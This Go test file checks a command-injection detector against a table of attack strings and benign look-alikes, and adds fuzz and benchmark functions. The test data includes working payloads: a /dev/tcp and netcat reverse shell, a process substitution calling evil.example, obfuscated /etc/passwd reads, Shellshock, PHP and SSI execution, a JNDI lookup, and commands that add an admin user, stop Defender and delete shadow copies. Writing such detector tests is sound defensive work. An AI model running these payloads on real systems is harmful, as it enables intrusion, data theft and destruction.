package cmdi

import "testing"

func TestDetect(t *testing.T) {
	for _, tc := range []struct {
		name, v, rule string
	}{
		{"semicolon id", "; id", RuleLeading},
		{"chain after value", "a;id", RuleChain},
		{"pipe path", "x|/usr/bin/id", RuleChain},
		{"and and", "foo && whoami", RuleChain},
		{"newline", "x\ncat /etc/passwd", RuleChain},
		{"literal newline", `x\nuname -a`, RuleChain},
		{"quoted word", "x; c'a't /etc/passwd", RuleChain},
		{"backslashes", `x; \c\a\t /etc/passwd`, RuleChain},
		{"dollar at", "x; ca$@t /etc/passwd", RuleChain},
		{"ifs", "cat${IFS}/etc/passwd", RuleIFS},
		{"ifs9", "x;cat$IFS$9/etc/passwd", RuleIFS},
		{"subshell", "$(whoami)", RuleSubstitution},
		{"backticks", "`id`", RuleSubstitution},
		{"backticks after =", "name=`uname -a`", RuleSubstitution},
		{"process subst", "<(curl evil.example)", RuleSubstitution},
		{"brace expansion", "{cat,/etc/passwd}", RuleSubstitution},
		{"glob", "/???/c?t /???/p??s??", RuleGlob},
		{"bin sh", "/bin/sh -c 'id'", RuleCommandLine},
		{"cmd c", "x & cmd /c dir", RuleChain},
		{"caret", "x & p^o^w^e^r^s^h^e^l^l -enc SQBFAFgA", RuleChain},
		{"powershell", "powershell -enc SQBFAFgA", RuleCommandLine},
		{"nc", "nc -e /bin/sh 10.0.0.1 4444", RuleCommandLine},
		{"bash tcp", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", RuleReverseShell},
		{"cat passwd", "cat /etc/passwd", RuleCommandLine},
		{"sleep", "| sleep 10", RuleLeading},
		{"ping", "& ping -n 30 127.0.0.1 &", RuleLeading},
		{"id end", "id;", RuleCommandLine},
		{"shellshock", "() { :;}; /bin/bash -c id", RuleShellshock},
		{"ssi", `<!--#exec cmd="/bin/cat /etc/passwd"-->`, RuleSSI},
		{"php system", "system('id')", RuleCode},
		{"phpinfo", ";phpinfo()", RuleCode},
		{"windows path", "x & C:\\Windows\\System32\\cmd.exe /c dir", RuleChain},
		{"php interp", "{${phpinfo()}}", RuleCode},
		{"php tag", `<?php system("id"); ?>`, RuleCode},
		{"template", "{{7*7}}", RuleTemplate},
		{"jndi", "${jndi:ldap://x/a}", RuleTemplate},
		{"net user", "net user hacker P4ss /ADD", RuleCommandLine},
		{"which", "which nc", RuleCommandLine},
		{"quote close", "' whoami", RuleLeading},
		// '+' for a space: a form-encoded payload read undecoded.
		{"plus pipe dir", "+|+dir+c:/", RuleLeading},
		{"plus command line", "+dir+c:/", RuleCommandLine},
		{"plus chain", "x;+cat+/etc/passwd", RuleChain},
		{"plus mixed", "&&+|+dir c:/", RuleChain},
		// subcommand-driven Windows administration tools
		{"netsh firewall", "netsh firewall set opmode disable", RuleCommandLine},
		{"reg add", `reg add HKLM\Software\Microsoft\Windows\CurrentVersion\Run /v x`, RuleCommandLine},
		{"sc stop", "sc stop WinDefend", RuleCommandLine},
		{"wmic process", "wmic process call create calc", RuleCommandLine},
		{"vssadmin", "x & vssadmin delete shadows /all /quiet", RuleChain},
		// Windows paths with spaces
		{"documents and settings", `dir C:\Documents and Settings\*`, RuleCommandLine},
		{"program files", `type "C:\Program Files\app\config.ini"`, RuleCommandLine},
		// template statement tags
		{"jinja for", "{% for c in [1,2,3] %}{{c}}{% endfor %}", RuleTemplate},
		{"twig set", "{%- set x = 'id' -%}", RuleTemplate},
		{"liquid include", "{% include '/etc/passwd' %}", RuleTemplate},
		// glob against URL query strings
		{"glob after url", "/???/c?t /e??/p?ss??", RuleGlob},
		// benign look-alikes
		{"url in path query", "/getuid?https://ads.example.com/sync/match.aspx?uid=$UID", ""},
		{"url query template", "/cb?https://px.example.net/pixel?nid=x&hm=${UID_ENC}", ""},
		{"path with query", "/api/v2/items?page=2&sort=name", ""},
		{"plus search", "cat+food+for+kittens", ""},
		{"plus email", "john+news@example.com", ""},
		{"plus language", "C++ | Rust", ""},
		{"plus phone", "+34 912 345 678", ""},
		{"plus offset", "2024-01-01T10:00:00+01:00", ""},
		{"netsh prose", "netsh is a Windows tool", ""},
		{"capital sc", "SC start", ""},
		{"reg word", "reg pending", ""},
		{"path prose", `dir C:\Users is where the profiles are`, ""},
		{"percent braces", "{%d items%}", ""},
		{"template unknown tag", "{% hello %}", ""},
		{"template unclosed", "{% if you like", ""},
		{"tom and jerry", "Tom & Jerry", ""},
		{"r and d", "R&D; sales", ""},
		{"cats dogs", "cats | dogs", ""},
		{"ls prose", "ls -la is a command", ""},
		{"curl recipes", "curl recipes", ""},
		{"bash party", "bash birthday party", ""},
		{"emoticon", "great ;) see you :|", ""},
		{"markdown code", "run `ls -la` to see files", ""},
		{"markdown table", "| id | name |\n| 1 | bob |", ""},
		{"url", "https://example.com/a;jsessionid=1?x=1&id=2&sort=asc", ""},
		{"url pipes", "https://shop.example.com/?icid=MMB|SC|C1|GetStarted", ""},
		{"entity", "Fish &amp; Chips &nbsp; ok", ""},
		{"time", "Meet at 10; time to go", ""},
		{"sleep prose", "I sleep 8 hours a night", ""},
		{"copy", "copy 2 pages", ""},
		{"spanish", "del almendro, 169,", ""},
		{"bare word", "id", ""},
		{"bare true", "true", ""},
		{"semicolons", ";;", ""},
		{"bare separator", "&&", ""},
		{"double semicolon", ";;atf", ""},
		{"user agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36", ""},
		{"js callback", "function(){return o(t,r,arguments)}", ""},
		{"jquery", "$('#id').hide()", ""},
		{"arithmetic", "$((1+2))", ""},
		{"template var", "Hello ${firstName}, your code is {{code}}", ""},
		{"email", "o'brien@example.com", ""},
		{"path", "reports/2024/q1.csv", ""},
	} {
		t.Run(tc.name, func(t *testing.T) {
			rule, hit := Detect(tc.v)
			if hit != (tc.rule != "") || rule != tc.rule {
				t.Errorf("Detect(%q) = %q, %v; want %q", tc.v, rule, hit, tc.rule)
			}
		})
	}
}

func FuzzDetect(f *testing.F) {
	for _, s := range []string{
		"; id", "a|/usr/bin/id", "$(whoami)", "`id`", "cat${IFS}/etc/passwd", "() { :;};",
		"system('id')", "{{7*7}}", "Tom & Jerry", "", "$", "`", "{", "\\", "${", "&#", "|",
		"c'a't", "/???/c?t", "<!--#exec", "{${", "net user", "which nc",
	} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		Detect(s)
	})
}

var benchValues = []string{
	"john.smith@example.com",
	"Calle Mayor 12, 3 izquierda",
	"2024-05-01T12:00:00Z",
	"The quick brown fox jumps",
}

func BenchmarkDetectClean(b *testing.B) {
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		Detect(benchValues[i%len(benchValues)])
	}
}

func BenchmarkDetectAttack(b *testing.B) {
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		Detect("x; c'a't${IFS}/etc/passwd")
	}
}

// BenchmarkDetectPlus measures values holding '+' where a form-encoded
// space would be, which are read a second time with '+' as a space.
func BenchmarkDetectPlus(b *testing.B) {
	b.ReportAllocs()
	values := []string{"john+news@example.com", "cat+food+for+kittens", "+34 912 345 678", "notes+q1/2024"}
	for i := 0; i < b.N; i++ {
		Detect(values[i%len(values)])
	}
}
